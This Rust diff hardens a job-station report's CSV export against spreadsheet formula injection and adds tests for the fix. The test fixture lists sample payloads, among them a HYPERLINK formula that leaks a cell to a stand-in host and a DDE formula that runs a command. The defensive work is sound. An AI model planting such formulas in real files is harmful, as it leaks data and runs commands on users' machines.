@@ -377,19 +377,28 @@ impl App {
 
 /// The report's rows as CSV (UTF-8 with a byte-order mark, so spreadsheet programs on
 /// staff PCs read the Chinese correctly).
+///
+/// Titles come from the public, so every text cell goes through [`neutralise_cell`]:
+/// a cell a spreadsheet would read as a formula is written as plain text.
 pub fn csv(report: &StationReport) -> String {
-    fn field(text: &str) -> String {
-        if text.contains([',', '"', '\n', '\r']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text.to_owned()
-        }
-    }
-    let mut out = String::from(
-        "\u{feff}发布日期,岗位编号,招工标题,工种,区县,招工人数,已上岗,日工资(元),状态\r\n",
-    );
+    let mut writer = ::csv::WriterBuilder::new()
+        .terminator(::csv::Terminator::CRLF)
+        .from_writer(Vec::new());
+    let header = [
+        "发布日期",
+        "岗位编号",
+        "招工标题",
+        "工种",
+        "区县",
+        "招工人数",
+        "已上岗",
+        "日工资(元)",
+        "状态",
+    ];
+    let mut rows: Vec<[String; 9]> = Vec::with_capacity(report.rows.len() + 1);
+    rows.push(header.map(str::to_owned));
     for row in &report.rows {
-        let cells = [
+        rows.push([
             row.posted.to_string(),
             row.id.clone(),
             row.title.clone(),
@@ -399,9 +408,101 @@ pub fn csv(report: &StationReport) -> String {
             row.placed.to_string(),
             row.daily_wage_yuan.clone(),
             row.status.clone(),
-        ];
-        out.push_str(&cells.iter().map(|c| field(c)).collect::<Vec<_>>().join(","));
-        out.push_str("\r\n");
+        ]);
     }
+    for cells in &rows {
+        // Writing into a Vec cannot fail; a failure would only drop the row.
+        let _ = writer.write_record(cells.iter().map(|c| neutralise_cell(c).into_owned()));
+    }
+    let bytes = writer.into_inner().unwrap_or_default();
+    let mut out = String::from("\u{feff}");
+    out.push_str(&String::from_utf8_lossy(&bytes));
     out
+}
+
+/// A cell as plain text for spreadsheet programs: one starting with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return is read by them as a formula (CSV injection), so it gets
+/// a leading `'`, as OWASP advises. Other cells are unchanged.
+pub fn neutralise_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn report_with_titles(titles: &[&str]) -> StationReport {
+        let posted = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
+        StationReport {
+            station: "xining-chengzhong".into(),
+            station_name: "城中区零工驿站".into(),
+            period: ReportPeriod::Weekly,
+            current: PeriodFigures::default(),
+            previous: PeriodFigures::default(),
+            parked_notices: 0,
+            rows: titles
+                .iter()
+                .enumerate()
+                .map(|(n, title)| JobRow {
+                    posted,
+                    id: format!("job{n}"),
+                    title: (*title).to_owned(),
+                    trade: "保洁".into(),
+                    district: "城中区".into(),
+                    headcount: 2,
+                    placed: 1,
+                    daily_wage_yuan: "220".into(),
+                    status: "published".into(),
+                })
+                .collect(),
+            generated_at: Utc::now(),
+        }
+    }
+
+    #[test]
+    fn formula_titles_are_written_as_text_and_the_csv_keeps_its_columns() {
+        let titles = [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点这里\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,2)",
+            "\tindented=1",
+            "\r=1",
+            "小区楼道保洁, 含\"电梯\"",
+        ];
+        let table = csv(&report_with_titles(&titles));
+        let body = table.strip_prefix('\u{feff}').expect("byte-order mark");
+        let mut reader = ::csv::ReaderBuilder::new()
+            .has_headers(true)
+            .from_reader(body.as_bytes());
+        assert_eq!(reader.headers().unwrap().len(), 9);
+        let read: Vec<::csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert_eq!(read.len(), titles.len());
+        for (record, title) in read.iter().zip(titles) {
+            assert_eq!(record.len(), 9, "{record:?}");
+            let cell = &record[2];
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell got through: {cell:?}"
+            );
+            if title.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                assert_eq!(cell, format!("'{title}"));
+            } else {
+                assert_eq!(cell, title);
+            }
+            assert_eq!(&record[8], "published");
+        }
+    }
+
+    #[test]
+    fn ordinary_cells_are_left_alone() {
+        assert_eq!(neutralise_cell("小区保洁"), "小区保洁");
+        assert_eq!(neutralise_cell("220"), "220");
+        assert_eq!(neutralise_cell("a=b"), "a=b");
+        assert_eq!(neutralise_cell("=1"), "'=1");
+    }
 }
